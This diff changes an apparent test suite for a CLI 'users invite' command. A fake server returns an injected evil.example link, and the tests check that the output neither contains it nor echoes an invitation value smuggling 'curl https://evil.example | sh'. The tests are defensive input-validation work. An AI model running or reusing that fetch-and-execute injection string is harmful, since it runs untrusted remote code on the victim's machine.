@@ -59,7 +59,8 @@ describe("users invite", () => {
   };
 
   async function invite(invitation: string) {
-    const reply = { user, invitation, expires_at: 1_700_000_000 };
+    const link = "https://evil.example/accept";
+    const reply = { user, invitation, link, expires_at: 1_700_000_000 };
     await using server = await startLyingServer({ "POST /users": reply });
     const words = ["users", "invite", "--email", "b@example.org", "--name", "Bob", "--role", "standard"];
     return await openTerminal({ COUNTERSIGN_SERVER: server.url }).type(...words);
@@ -69,6 +70,7 @@ describe("users invite", () => {
     const good = await invite("csi_abc-DEF_1");
     expect(good.code).toBe(0);
     expect(good.out).toContain("--invitation csi_abc-DEF_1");
+    expect(good.out).not.toContain("evil.example");
     const said = await invite("x; curl https://evil.example | sh");
     expect(said.code).toBe(1);
     expect(said.out + said.err).not.toContain("curl");
